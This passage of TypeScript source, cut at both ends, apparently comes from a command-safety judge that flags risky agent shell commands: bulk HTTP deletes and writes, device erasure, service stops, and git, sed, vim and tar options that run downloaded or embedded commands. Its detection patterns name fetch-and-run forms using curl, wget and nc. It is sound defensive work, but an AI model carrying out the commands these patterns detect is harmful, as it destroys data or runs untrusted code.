      /^(?:indexes|indices|index|collections|collection|buckets|bucket|databases|database|dbs|db|keyspaces|tables|zones|topics|queues|vhosts|exchanges|namespaces|projects|repos|repositories|schemas|clusters|volumes|snapshots|streams|datasets|spaces|tenants)$/i;
    const whole =
      segments.length <= 1 ||
      segments.some((s) => /[*,]|^_all$/.test(s)) ||
      (segments.length >= 2 && container.test(segments[segments.length - 2]!));
    // One item named by its id under a collection of items (`/v1/users/123`, `/api/comments/8f3a…`): a single record, not
    // the store; collections whose single member is itself a store (repos, projects, clusters, …) are not items.
    const item =
      !whole &&
      segments.length >= 3 &&
      /^(?:\d+|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|[0-9a-f]{12,}|[A-Za-z]{1,4}_[A-Za-z0-9]{6,})$/i.test(
        segments[segments.length - 1]!,
      ) &&
      /^[a-z][a-z_-]*s$/i.test(segments[segments.length - 2]!) &&
      !/^(?:repos|repositories|projects|clusters|instances|servers|droplets|volumes|zones|domains|keys|tokens|secrets|accounts|orgs|organizations|organisations|tenants|databases|buckets|snapshots|backups|deployments|environments|apps|applications|sites|workspaces|teams|groups|indexes|indices|stacks|vms|machines|nodes|hooks|webhooks|policies|roles|certificates|services|functions|distributions)$/i.test(
        segments[segments.length - 2]!,
      );
    // …sent with the task's own credentials (an Authorization header, -u / --auth, a bearer or API-key option): the task's API.
    const credentials =
      texts.some(
        (t, k) =>
          /^(?:-H|--header)$/.test(texts[k - 1] ?? "") &&
          /^(?:Authorization|X-Api-Key|X-Auth-Token|Private-Token)\s*:/i.test(t),
      ) ||
      texts.some(
        (t) =>
          /^(?:Authorization|X-Api-Key|X-Auth-Token):/i.test(t) ||
          /^(?:-u|--user|-a|--auth|--oauth2-bearer|--aws-sigv4)$/.test(t),
      );
    if (item && credentials && !/\$/.test(u)) continue;
    if (!LOCAL_HOST.test(host) || /\$/.test(u) || whole) return add(ctx, "http_delete");
  }
}

/**
 * HTTP writes by raw clients (`curl -X PATCH/PUT`, `http PATCH`) and `gh api`: admin rights granted to a collaborator or
 * member (`{"permission":"admin"}`), a repository or resource made public (`{"private":false}`, `-F private=false`), and a
 * PATCH/PUT of a whole collection (`$API/v1/orders`, no id) on another host: every record changed at once.
 */
function judgeHttpWrite(ctx: JudgeContext, name: string): void {
  const texts = ctx.args.map((a) => a.text);
  let method = "";
  for (let k = 0; k < texts.length; k++) {
    const t = texts[k]!;
    if ((/^-[a-zA-Z]*X$/.test(t) || t === "--request" || t === "--method") && texts[k + 1])
      method = texts[k + 1]!.toUpperCase();
    else if (/^(?:-[a-zA-Z]*X|--request=|--method=)\w+$/i.test(t))
      method = t.replace(/^(?:-[a-zA-Z]*X|--request=|--method=)/i, "").toUpperCase();
    else if (name !== "curl" && name !== "wget" && /^(?:PATCH|PUT|POST)$/.test(t)) method = t;
  }
  if (!/^(?:PATCH|PUT|POST)$/.test(method)) return;
  const body = texts
    .filter(
      (t, k) =>
        /^(?:-d|--data(?:-raw|-binary|-ascii|-urlencode)?|--json|-F|--form|-f|--field|--raw-field|--body-data|--post-data)$/.test(
          texts[k - 1] ?? "",
        ) ||
        /^(?:--data\S*|--json|--body-data|--post-data|--field|--raw-field)=/.test(t) ||
        (name !== "curl" && name !== "wget" && /^[\w.-]+(?::=|=)/.test(t)),
    )
    .join(" ");
  const urls = texts.filter(
    (t) =>
      /^(?:https?:\/\/|\$\{?\w+\}?\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+)(?::\d+)?\/)/i.test(t) ||
      /^(?:repos|orgs|projects|groups)\//.test(t),
  );
  if (
    urls.some((u) => /\/(?:collaborators|members|memberships|invitations|permissions)\b/.test(u)) &&
    /"?(?:permission|role|access_level|role_name)"?\s*[:=]\s*"?(?:admin|owner|maintain|maintainer|50|40)\b/i.test(body)
  )
    return add(ctx, "privilege_grant");
  if (
    /"private"\s*:\s*false|\bprivate=false\b|"visibility"\s*:\s*"public"|\bvisibility=public\b|"public"\s*:\s*true|"acl"\s*:\s*"public-read/i.test(
      body,
    )
  )
    return add(ctx, "privilege_grant");
  if (method === "POST" || !body) return;
  for (const u of urls) {
    const m = /^(?:https?:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)(?::\d+)?([^?#]*)/i.exec(u)!;
    const segments = m[2]!.split("/").filter(Boolean);
    const last = segments[segments.length - 1] ?? "";
    if (
      (!LOCAL_HOST.test(m[1]!) || /\$/.test(m[1]!)) &&
      segments.length >= 1 &&
      /^[a-z][a-z-]*[a-rt-z]s$/i.test(last) &&
      !/^(?:settings|status|credentials|permissions|preferences|headers|details|options|metrics|stats|graphs|configs?|mappings|aliases|access|ids)$/i.test(
        last,
      )
    )
      return add(ctx, "http_bulk_update");
  }
}

/** Commands that write the file named by an output option (`sort -o FILE`, `curl -o FILE`, `uniq IN OUT`). */
function judgeOutputOption(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  const targets: string[] = [];
  const shortOpt = name === "wget" ? "-O" : name === "openssl" ? "-out" : "-o";
  const longOpt = name === "wget" ? "--output-document" : "--output";
  // `curl -fsSLo FILE`, `wget -qO FILE`: the option ends a bundle of flags that take no value.
  const bundle = name === "curl" ? /^-[fsSLkvqiIgGNRjJ#]+o$/ : name === "wget" ? /^-[qvcNnrkKpSx4]+O$/ : null;
  for (let k = 0; k < texts.length; k++) {
    const t = texts[k]!;
    if (t === shortOpt || t === longOpt || bundle?.test(t)) {
      if (texts[k + 1] !== undefined) targets.push(texts[k + 1]!);
    } else if (
      (name === "curl" && t === "--output-dir") ||
      (name === "wget" && (t === "-P" || t === "--directory-prefix"))
    ) {
      if (texts[k + 1] !== undefined) targets.push(posix.join(texts[k + 1]!, "_download_"));
    } else if (
      (name === "curl" && t.startsWith("--output-dir=")) ||
      (name === "wget" && t.startsWith("--directory-prefix="))
    ) {
      targets.push(posix.join(t.slice(t.indexOf("=") + 1), "_download_"));
    } else if (t.startsWith(longOpt + "=")) targets.push(t.slice(longOpt.length + 1));
    else if (shortOpt.length === 2 && t.startsWith(shortOpt) && t.length > 2 && name !== "curl" && name !== "wget")
      targets.push(t.slice(2));
  }
  if (name === "uniq") {
    const ops = operands(args, "fsw", ["--skip-fields", "--skip-chars", "--check-chars"]);
    if (ops[1]) targets.push(ops[1].text);
  }
  for (const t of targets) if (t !== "-") judgeOverwrite(ctx, t);
}

/** ed/ex/vim run non-interactively (a script on stdin, -c commands, -s/-e mode) write the files they edit. */
/** Text computed by a download (`$(curl …)`, `<(wget -qO- …)`) standing where a program reads commands. */
const FETCHED_TEXT =
  /(?:\$\(|<\(|`)\s*(?:sudo\s+)?(?:curl|wget|fetch|aria2c|http|https|xh|nc|ncat|socat|gh\s+api|aws\s+s3\s+cp|gsutil\s+cat)\b/;

function judgeScriptedEditor(ctx: JudgeContext): void {
  // `vim -es -c "$(curl …)"`, `vim -S <(curl …)`: ex commands (which can run `:!cmd`) downloaded and run.
  if (
    ctx.args.some((a, k) => /^(?:-c|-S|--cmd|-s|-u)$/.test(ctx.args[k - 1]?.text ?? "") && FETCHED_TEXT.test(a.text)) ||
    ctx.args.some((a) => /^\+/.test(a.text) && FETCHED_TEXT.test(a.text))
  )
    return add(ctx, "shell_input");
  const args = ctx.args;
  const scripted =
    ctx.producer != null ||
    ctx.redirects.some((r) => r.body !== undefined || (r.op === "<" && !r.fd)) ||
    args.some((a) => /^-[a-zA-Z]*[cse]$|^-[Es]$|^\+/.test(a.text) || a.text === "-es");
  if (!scripted && ctx.name !== "ed" && ctx.name !== "ex") return;
  if (!scripted) return;
  for (const op of operands(args, ctx.name === "ed" || ctx.name === "ex" ? "p" : "cSuUiTwW", ["--cmd"]))
    if (!op.text.startsWith("+")) judgeOverwrite(ctx, op.text);
}

/** wipefs -a, blkdiscard, hdparm --security-erase: erasing a device (an image file in the working directory is fine). */
function judgeEraser(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  if (
    name === "wipefs" &&
    (hasFlag(
      args.filter((a) => !a.text.startsWith("--")),
      "n",
    ) ||
      args.some((a) => a.text === "--no-act") ||
      !args.some((a) => /^-[a-zA-Z]*[ao]|^--(?:all|offset|types)/.test(a.text)))
  )
    return;
  if (
    name === "hdparm" &&
    !args.some((a) =>
      /^--(?:security-erase|security-erase-enhanced|trim-sector-ranges|write-sector|make-bad-sector|dco-restore|fwdownload)/.test(
        a.text,
      ),
    )
  )
    return;
  const ops = operands(args, name === "wipefs" ? "otpb" : name === "blkdiscard" ? "olps" : "", [
    "--offset",
    "--types",
    "--length",
    "--step",
    "--backup",
  ]);
  const targets = name === "hdparm" ? ops.filter((o) => o.text.startsWith("/dev/")) : ops;
  if (!targets.length) return add(ctx, "erase_device");
  for (const t of targets) {
    const w = whereIn(ctx, t.text);
    noteInside(ctx, t.text);
    if (w !== "inside" && w !== "scratch") return add(ctx, "erase_device");
  }
}

const BLOCK_DEVICE_NAME =
  /^(?:\/dev\/(?!null$|zero$|stdin$|stdout$|stderr$|fd\/)|(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d+n\d+|mmcblk\d+)\w*$)/;

/**
 * Commands that initialise a device for a new use (nvme format/sanitize, LVM physical volumes, ZFS pools,
 * badblocks -w, sg_format, ceph-volume zap): whatever the device held is gone. Image files in the working
 * directory are fine.
 */
function judgeDiskInit(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const words = sub(args);
  if (
    name === "nvme" &&
    !/^(?:format|sanitize|delete-ns|write-zeroes|write-uncor|fw-download|fw-commit)$/.test(words[0] ?? "")
  )
    return;
  if (
    name === "badblocks" &&
    !hasFlag(
      args.filter((a) => !a.text.startsWith("--")),
      "w",
    )
  )
    return;
  if (name === "ceph-volume" && !words.includes("zap")) return;
  const ops = operands(args, name === "zpool" ? "oOmRt" : name === "badblocks" ? "bcdeiopt" : "", [
    "--ses",
    "--namespace-id",
    "--lbaf",
    "--pi",
    "--setsize",
    "--metadatasize",
    "--dataalignment",
  ]).map((o) => o.text);
  for (const o of ops) {
    if (BLOCK_DEVICE_NAME.test(o)) return add(ctx, "erase_device");
    if (o.includes("/") && !isInsideLike(whereIn(ctx, o))) return add(ctx, "erase_device");
  }
  if (name === "nvme" || name === "sg_format") add(ctx, "erase_device"); // the device may be named by option
}

/** Partitioning tools on a device change its partition table unless they only list or print it. */
function judgePartitioner(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const ops = operands(args, name === "sfdisk" ? "NuoO" : name === "fdisk" ? "bcCHSuLwW" : "", [
    "--sector-size",
    "--output",
    "--wipe",
    "--wipe-partitions",
    "--label",
  ]);
  const target = ops.find((o) => o.text.startsWith("/") || o.text.includes("/")) ?? ops[0];
  if (!target) return;
  const w = whereIn(ctx, target.text);
  if (w === "inside" || w === "scratch") return;
  const readOnly =
    name === "fdisk" || name === "gdisk"
      ? hasFlag(args, "lsV", ["--list", "--getsz", "--version"])
      : name === "sfdisk"
        ? hasFlag(args, "ldJsVgr", [
            "--list",
            "--dump",
            "--json",
            "--show-size",
            "--verify",
            "--show-geometry",
            "--version",
            "--list-free",
            "--part-type",
            "--part-label",
          ]) && !args.some((a) => /^--(?:delete|part-type|part-label)$/.test(a.text) && ops.length > 1)
        : name === "sgdisk"
          ? hasFlag(args, "pvi", ["--print", "--verify", "--info", "--version"]) &&
            !hasFlag(args, "zZodnt", ["--zap", "--zap-all", "--clear", "--delete", "--new"])
          : name === "parted"
            ? hasFlag(args, "l", ["--list"]) ||
              (ops
                .slice(1)
                .every((o) =>
                  /^(?:print|p|unit|s|b|kb|mb|gb|tb|kib|mib|gib|tib|%|cyl|chs|compact|free|list|all|help|version)$/i.test(
                    o.text,
                  ),
                ) &&
                ops.length > 1)
            : false;
  if (!readOnly) add(ctx, "erase_device");
}

/** PowerShell cmdlets (pwsh -c scripts are read by the shell reader): deletes, writes, moves, shutdown. */
function judgePowerShellCmdlet(ctx: JudgeContext): void {
  const n = ctx.name.toLowerCase();
  const args = ctx.args;
  const pathOf = () => {
    const p = args.findIndex((a) => /^-(?:path|literalpath|lp)$/i.test(a.text));
    if (p >= 0) return args[p + 1]?.text;
    return args.find((a) => !a.text.startsWith("-"))?.text;
  };
  // A cmdlet with no path of its own acts on what the pipeline gives it: `Get-ChildItem DIR [-Recurse] | Remove-Item`.
  const piped = (): string | undefined => {
    const p = ctx.producer;
    if (
      !p ||
      !/^(?:get-childitem|gci|ls|dir|get-item|gi|resolve-path|where-object|where|\?|select-object|select|sort-object)$/i.test(
        p.name,
      )
    )
      return undefined;
    const origin = /^(?:where-object|where|\?|select-object|select|sort-object)$/i.test(p.name) ? p.before : p;
    if (!origin) return undefined;
    const k = origin.args.findIndex((a) => /^-(?:path|literalpath|lp)$/i.test(a.text));
    const dir =
      k >= 0 ? origin.args[k + 1]?.text : origin.args.find((a) => !a.text.startsWith("-") && !/^-/.test(a.text))?.text;
    return posix.join(dir ?? ".", "_item_");
  };
  if (
    n === "stop-service" ||
    n === "spsv" ||
    n === "restart-service" ||
    n === "suspend-service" ||
    n === "set-service"
  ) {
    const names = args.filter((a) => !a.text.startsWith("-")).map((a) => a.text);
    // Every Windows service is the machine's (an agent's own servers are not Windows services): stopping, suspending,
    // disabling or restarting one by name (`Stop-Service -Name Spooler`) changes the system.
    if (names.length || (ctx.producer && !names.length))
      add(
        ctx,
        n.startsWith("restart") || (n === "set-service" && !args.some((a) => /^(?:disabled|stopped)$/i.test(a.text)))
          ? "service_change"
          : "stop_service",
      );
    return;
  }
  if (n === "stop-process" || n === "spps" || n === "kill") {
    const k = args.findIndex((a) => /^-(?:name|processname)$/i.test(a.text));
    const names = k >= 0 ? (args[k + 1]?.text ?? "").split(",") : [];
    if (names.some((x) => SYSTEM_DAEMON.test(x.replace(/^['"]|['"]$/g, "")))) return add(ctx, "stop_service");
    if (
      args.some((a) => /^-id$/i.test(a.text)) &&
      /^(?:0|1|4)$/.test(args[args.findIndex((a) => /^-id$/i.test(a.text)) + 1]?.text ?? "")
    )
      return add(ctx, "kill_all_processes");
    if (ctx.producer && /^(?:get-process|gps|ps)$/i.test(ctx.producer.name) && !ctx.producer.args.length)
      return add(ctx, "kill_all_processes");
    if (
      ctx.producer &&
      /^(?:get-process|gps|ps)$/i.test(ctx.producer.name) &&
      ctx.producer.args.some((a) => SYSTEM_DAEMON.test(a.text.replace(/^['"]|['"]$/g, "")))
    )
      return add(ctx, "stop_service");
    return;
  }
  if (n === "remove-item" || n === "ri" || n === "del" || n === "erase" || n === "rd") {
    const path = pathOf() ?? piped();
    const recursive = args.some((a) => /^-r(?:ecurse)?$/i.test(a.text)) || n === "rd";
    const win = path !== undefined ? windowsDeleteClass(path, recursive) : null;
    if (win) add(ctx, /^(?:HKLM|HKCU|HKCR|HKU|HKCC|Registry):/i.test(path!) ? "system_config_write" : win);
    else if (path !== undefined && /^(?:HKLM|HKCU|HKCR|HKU|HKCC|Registry):/i.test(path))
      add(ctx, "system_config_write");
    else if (path !== undefined) judgeDelete(ctx, path.replace(/\\/g, "/"), recursive);
  } else if (n === "set-content" || n === "out-file" || n === "clear-content" || n === "sc" || n === "clc") {
    const p = args.findIndex((a) => /^-(?:path|literalpath|filepath)$/i.test(a.text));
    const path =
      (p >= 0 ? args[p + 1]?.text : args.find((a) => !a.text.startsWith("-"))?.text) ??
      (n === "clear-content" || n === "clc" ? piped() : undefined);
    if (path !== undefined) judgeOverwrite(ctx, path);
  } else if (n === "move-item" || n === "mi") {
    const path = pathOf() ?? piped();
    if (path !== undefined) judgeMove(ctx, [path], undefined);
  } else if (n === "stop-computer" || n === "restart-computer") add(ctx, "reboot_shutdown");
  else if (n === "format-volume" || n === "clear-disk" || n === "initialize-disk") add(ctx, "erase_device");
  else if (n === "invoke-expression" || n === "iex") {
    if (args.every((a) => a.literal)) ctx.analyseShell(args.map((a) => a.text).join(" "));
    else add(ctx, "shell_input");
  }
}

/** `find ./build … | xargs rm`, `git ls-files … | xargs rm`, `ls *.o | xargs rm`: paths inside the working directory. */
export function producerListsInside(p: Producer | null | undefined, cwd: string, root?: string): boolean {
  if (!p) return false;
  const ctx = { cwd, root };
  const args = p.args.map((a) => a.text);
  if (!p.args.every((a) => a.literal)) return false;
  if (p.name === "git" && ["ls-files", "diff", "status"].includes(args[0] ?? "")) return true;
  // Filters that only pick or reorder lines of their input (`ls -d ./releases/* | head -n -3`): what came before them.
  if (
    /^(?:head|tail|sort|uniq|tac|shuf)$/.test(p.name) &&
    !p.args.some(
      (a) =>
        !a.text.startsWith("-") &&
        !/^\+?-?\d+$/.test(a.text) &&
        !/^-[nck]$/.test(p.args[p.args.indexOf(a) - 1]?.text ?? ""),
    )
  )
    return producerListsInside(p.before, cwd, root);
  if (
    /^(?:grep|egrep|fgrep)$/.test(p.name) &&
    args.filter((a) => !a.startsWith("-")).length === 1 &&
    !args.some((a) => /^-[A-Za-z]*[lLcoe]|^-f$|^--file/.test(a))
  )
    return producerListsInside(p.before, cwd, root);
  if (p.name === "find") {
    const roots = [];
    for (const a of args) {
      if (/^[-(!]/.test(a)) break;
      roots.push(a);
    }
    if (!roots.length) roots.push(".");
    const filtered = args.some((t) =>
      /^-(?:i?name|i?path|i?regex|newer\S*|[acm]time|[acm]min|size|empty|type)$/.test(t),
    );
    return filtered && roots.every((r) => whereIn(ctx, r) === "inside");
  }
  if (p.name === "ls" || p.name === "echo" || p.name === "printf") {
    const ops = args.filter((a) => !a.startsWith("-"));
    return ops.length > 0 && ops.every((o) => whereIn(ctx, o) === "inside" && !/^\.\/*$|^\*$/.test(o));
  }
  if (p.name === "grep" || p.name === "rg") {
    return (
      args.some((a) => /^-[A-Za-z]*l/.test(a)) &&
      args
        .filter((a) => !a.startsWith("-"))
        .slice(1)
        .every((o) => whereIn(ctx, o) === "inside")
    );
  }
  return false;
}

// ---------------------------------------------------------------------------------------------
// Text a program runs as a shell command: options, configuration and sub-languages

/** git configuration keys whose value git runs (a shell command, or a git command for an alias without `!`). */
const GIT_COMMAND_KEY =
  /^(?:core\.(?:pager|fsmonitor|sshcommand|editor|askpass)|sequence\.editor|diff\.external|(?:diff|merge|filter|difftool|mergetool|browser)\.[^=]+\.(?:command|textconv|driver|clean|smudge|process|cmd)|pager\.[\w-]+|credential(?:\.[^=]+)?\.helper|gpg(?:\.[\w-]+)?\.program|uploadpack\.packobjectshook|interactive\.difffilter|sendemail\.\w*cmd|alias\.[^=]+)$/i;

/** Environment variables whose value a program runs as a command line (a pager, an editor, an ssh command). */
const COMMAND_ENV =
  /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|SYSTEMD_PAGER|EDITOR|VISUAL|LESSOPEN|LESSCLOSE|RSYNC_RSH|PROMPT_COMMAND)$/;

function gitConfigRuns(ctx: JudgeContext, key: string, value: string, global = false): void {
  // Pushes made to mirror (every ref forced, deleted refs deleted) or forced by a configured refspec (`+refs/heads/*:…`).
  if (/^remote\.[^=]+\.mirror$/i.test(key) && /^(?:true|yes|on|1)$/i.test(value.trim()))
    return add(ctx, "git_force_push");
  if (/^remote\.[^=]+\.push$/i.test(key) && /^\+/.test(value.trim())) {
    const dest = value.trim().slice(1).split(":").pop() ?? "";
    if (dest === "" || /[*$`]/.test(dest) || PROTECTED_BRANCH.test(dest)) return add(ctx, "git_force_push");
  }
  // Hooks taken from a directory anyone can write (/tmp) or from outside the working directory for every repository.
  if (/^core\.hookspath$/i.test(key) && value.trim()) {
    const w = whereIn(ctx, value.trim());
    if (w === "scratch" || (global && w !== "inside")) return add(ctx, "shell_input");
  }
  if (!GIT_COMMAND_KEY.test(key) || /^(?:true|false|yes|no|on|off|[01])?$/i.test(value.trim())) return;
  if (/^alias\./i.test(key)) return ctx.analyseShell(value.startsWith("!") ? value.slice(1) : `git ${value}`);
  // `credential.helper store` names git-credential-store; `!…` (or an absolute path) is a command.
  if (/^credential/i.test(key) && !/^[!/]/.test(value)) return;
  ctx.analyseShell(value.replace(/^!/, ""));
}

/** The shell command an ex/vim command line runs (`:!cmd`, `:r !cmd`, `:w !cmd`, `:%!filter`, `:call system('…')`). */
function exShell(ctx: JudgeContext, cmd: string): void {
  let c = cmd.replace(/^[:\s]+/, "").replace(/^(?:sil(?:ent)?!?\s*)+/, "");
  c = c.replace(/^(?:%|\d+|\$|\.|'[a-z<>])(?:\s*,\s*(?:\d+|\$|\.|'[a-z<>]))?/, "");
  const bang = /^(?:(?:r(?:ead)?|w(?:rite)?)\s*)?!(.*)$/s.exec(c) ?? /^(?:ter(?:minal)?)\s+(.*)$/s.exec(c);
  if (bang) return ctx.analyseShell(bang[1]!);
  const sys = /\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)/s.exec(c);
  if (sys) return ctx.analyseShell(sys[2]!);
  if (/\b(?:system|systemlist|jobstart|termopen)\s*\(/.test(c) || /^exe(?:c(?:ute)?)?\b/.test(c))
    return add(ctx, "inline_code_unanalysable");
  const lang = /^(py(?:thon)?3?|pyx|lua|perl|ruby?)\s+(.*)$/s.exec(c);
  if (lang)
    analyseInlineCode(
      /^p(?:y|ython)/.test(lang[1]!) ? "python" : lang[1] === "lua" ? "lua" : lang[1] === "perl" ? "perl" : "ruby",
      lang[2]!,
      ctx,
    );
}

/** A sed script's `e` commands and `s///e` substitutions (their text runs as a shell command), and `w FILE` writes. */
function sedShell(ctx: JudgeContext, script: string): void {
  const addr = String.raw`(?:\d+(?:~\d+)?|\$|\/(?:[^\/\\]|\\.)*\/[IM]*|\\(.)(?:(?!\2).)*\2[IM]*)`;
  const ADDRESS = new RegExp(String.raw`^\s*(?:${addr}(?:\s*,\s*(?:${addr}|[+~]\d+))?)?\s*!?\s*`, "s");
  let rest = script;
  for (let guard = 0; guard < 64 && rest.trim(); guard++) {
    rest = rest.replace(ADDRESS, "");
    const c = rest[0];
    if (c === undefined) break;
    if (c === "{" || c === "}" || c === ";" || c === "\n") {
      rest = rest.slice(1);
      continue;
    }
    if (c === "e" || c === "w" || c === "W") {
      const end = rest.indexOf("\n");
      const arg = (end < 0 ? rest.slice(1) : rest.slice(1, end)).trim();
      rest = end < 0 ? "" : rest.slice(end + 1);
      if (c === "e") {
        if (arg) ctx.analyseShell(arg);
        else add(ctx, "shell_input"); // the pattern space, computed from the input, runs
      } else if (arg) judgeOverwrite(ctx, arg);
      continue;
    }
    if (c === "s" || c === "y") {
      const d = rest[1];
      if (d === undefined) break;
      const parts: string[] = [];
      let k = 2;
      let cur = "";
      for (; k < rest.length && parts.length < 2; k++) {
        if (rest[k] === "\\" && k + 1 < rest.length) {
          cur += rest[k]! + rest[k + 1]!;
          k++;
        } else if (rest[k] === d) {
          parts.push(cur);
          cur = "";
        } else cur += rest[k];
      }
      const flagsEnd = rest.slice(k).search(/[;\n}]/);
      const flags = flagsEnd < 0 ? rest.slice(k) : rest.slice(k, k + flagsEnd);
      rest = flagsEnd < 0 ? "" : rest.slice(k + flagsEnd);
      if (c === "s" && /^[^w]*e/.test(flags)) {
        const repl = parts[1] ?? "";
        // The replacement made from the input (`&`, `\1`) is computed text; a literal one is the command.
        if (/(?<!\\)&|\\\d/.test(repl)) add(ctx, "shell_input");
        else ctx.analyseShell(repl.replace(/\\(.)/g, (_, x: string) => (x === "n" ? "\n" : x)));
      }
      const w = /w\s*(.+)$/.exec(flags);
      if (c === "s" && w) judgeOverwrite(ctx, w[1]!.trim());
      continue;
    }
    // Commands that take the rest of the line (a, i, c, r, R, b, t, T, :label) or none.
    if (/[aicrRbtT:]/.test(c)) {
      const end = rest.search(/\n/);
      const semi = /[btT:]/.test(c) ? rest.search(/[;\n]/) : end;
      rest = semi < 0 ? "" : rest.slice(semi + 1);
      continue;
    }
    rest = rest.slice(1);
  }
}

/** Recipe lines of a makefile (after the recipe prefix, a tab or .RECIPEPREFIX), as one shell script. */
function makeRecipes(text: string): string {
  const prefix = /^\.RECIPEPREFIX\s*[:+?]?=\s*(\S)/m.exec(text)?.[1] ?? "\t";
  const lines: string[] = [];
  for (const line of text.split("\n")) {
    if (line.startsWith(prefix) && line.length > prefix.length)
      lines.push(
        line
          .slice(prefix.length)
          .replace(/^\s*[@+-]+\s*/, "")
          .replace(/\$\$/g, "$"),
      );
    else {
      const inline = /^[^:#=\s.][^:=]*::?(?!=)[^;=]*;\s*(.+)$/.exec(line);
      if (inline) lines.push(inline[1]!.replace(/\$\$/g, "$"));
    }
  }
  return lines.join("\n");
}

const NPM_BUILTIN =
  /^(?:access|adduser|audit|bugs|cache|ci|clean-install|completion|config|dedupe|deprecate|diff|dist-tag|docs|doctor|edit|exec|explain|explore|find-dupes|fund|help|hook|init|install|i|in|ins|inst|insta|instal|isntall|add|install-ci-test|install-test|link|ln|login|logout|ls|list|org|outdated|owner|pack|ping|pkg|prefix|profile|prune|publish|query|rebuild|rb|repo|restart|root|run|run-script|rum|urn|search|shrinkwrap|star|stars|start|stop|team|test|t|tst|token|uninstall|remove|rm|un|unlink|unpublish|unstar|update|up|upgrade|version|view|info|show|whoami|why|dlx|x|create|workspace|workspaces|set|get|import|node|env|store|patch|patch-commit|licenses|global|bin|plugin|constraints|dedup|npm|pm|outdated|check|autoclean|generate-lock-entry|tag|policies)$/;

/** The package.json scripts a package manager command runs: lifecycle hooks of an install, `run X` and its pre/post. */
function packageScripts(name: string, words: string[]): string[] {
  const verb = words[0];
  const install = ["preinstall", "install", "postinstall", "prepublish", "preprepare", "prepare", "postprepare"];
  if (verb === undefined) return name === "yarn" || name === "bun" ? (name === "bun" ? [] : install) : [];
  if (
    /^(?:install|i|in|ins|inst|insta|instal|isntall|ci|clean-install|add|rebuild|rb|link|ln|install-test|install-ci-test)$/.test(
      verb,
    )
  )
    return install;
  const script = /^(?:run|run-script|rum|urn)$/.test(verb)
    ? words[1]
    : /^(?:test|t|tst|start|stop|restart)$/.test(verb)
      ? (({ t: "test", tst: "test" } as Record<string, string>)[verb] ?? verb)
      : name !== "npm" && !NPM_BUILTIN.test(verb)
        ? verb
        : undefined;
  return script ? [`pre${script}`, script, `post${script}`] : [];
}

/**
 * Values of an option given as `-X v`, `--long v` or `--long=v`, and with `attachedShort` also `-Xv`.
 */
function optionValues(texts: string[], short: string[], long: string[], attachedShort: boolean): string[] {
  const out: string[] = [];
  for (let k = 0; k < texts.length; k++) {
    const t = texts[k]!;
    if ((short.includes(t) || long.includes(t)) && texts[k + 1] !== undefined) {
      out.push(texts[++k]!);
      continue;
    }
    const l = long.find((o) => t.startsWith(o + "="));
    if (l) out.push(t.slice(l.length + 1));
    else if (attachedShort) {
      const s = short.find((o) => o.length === 2 && t.startsWith(o) && t.length > 2 && !t.startsWith("--"));
      if (s) out.push(t.slice(2));
    }
  }
  return out;
}

/** Options and sub-languages whose value the program runs as a shell command: that text is judged as a command. */
function judgeEmbeddedCommands(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  for (const e of ctx.env ?? [])
    if (COMMAND_ENV.test(e.name) && e.value.trim())
      ctx.analyseShell(e.value.replace(/^\|+-?/, "").replace(/%s/g, "_item_"));
  const values = (short: string[], long: string[]): string[] => optionValues(texts, short, long, true);
  switch (name) {
    case "git": {
      for (let k = 0; k < texts.length; k++) {
        const t = texts[k]!;
        const pair = t === "-c" ? texts[++k] : /^-c./.test(t) ? t.slice(2) : undefined;
        if (pair !== undefined) {
          const m = /^([^=]+)=(.*)$/s.exec(pair);
          if (m) gitConfigRuns(ctx, m[1]!, m[2]!);
        } else if (/^(?:-C|--git-dir|--work-tree|--namespace|--exec-path|--config-env)$/.test(t)) k++;
        else if (!t.startsWith("-")) {
          if (t !== "config") break;
          const ops: string[] = [];
          for (let j = k + 1; j < texts.length; j++) {
            if (/^(?:-f|--file|--blob|--type|--default|--comment|--value)$/.test(texts[j]!)) j++;
            else if (!texts[j]!.startsWith("-")) ops.push(texts[j]!);
          }
          if (ops[0] === "set") ops.shift();
          if (ops.length >= 2)
            gitConfigRuns(
              ctx,
              ops[0]!,
              ops[1]!,
              texts.some((x) => x === "--global" || x === "--system"),
            );
          break;
        }
      }
      return;
    }
    case "tar":
    case "bsdtar":
    case "gtar":
      for (const v of values(
        ["-I", "-F"],
        ["--to-command", "--use-compress-program", "--info-script", "--new-volume-script", "--rsh-command"],
      ))
        ctx.analyseShell(v);
      // `--to-command=sh`: each member's content is piped into the command; a shell or interpreter reading its program
      // from stdin runs the archive's files as code.
      for (const v of values([], ["--to-command"])) {
        const [prog = "", ...rest] = v.trim().split(/\s+/);
        const base = posix.basename(prog);
        const lang = SHELLS.has(base) ? "shell" : interpreterLanguage(base);
        if (
          lang &&
          readsProgramFromStdin(
            base,
            rest.map((t) => ({ text: t, literal: true })),
            lang,
          )
        )
          add(ctx, "shell_input");
      }
      for (const v of values([], ["--checkpoint-action"])) {
        const m = /^exec=(.*)$/s.exec(v);
        if (m) ctx.analyseShell(m[1]!);
      }
      return;
    case "zip": {
      for (const v of values(["-TT"], ["--unzip-command"])) ctx.analyseShell(v);
      const texts = ctx.args.map((a) => a.text);
      if (texts.some((x) => (/^-[a-zA-Z0-9]*m|^--move$/.test(x) && !x.startsWith("--")) || x === "--move")) {
        const words = texts.filter(
          (x, k) => !x.startsWith("-") && !/^(?:-b|-n|-t|-tt|-O|--out|-P|--password|-Z|-s)$/.test(texts[k - 1] ?? ""),
        );
        const stop = texts.findIndex((x) => /^-(?:x|i|-exclude|-include)$/.test(x));
        const sources = (stop >= 0 ? words.filter((x) => texts.indexOf(x) < stop) : words).slice(1);
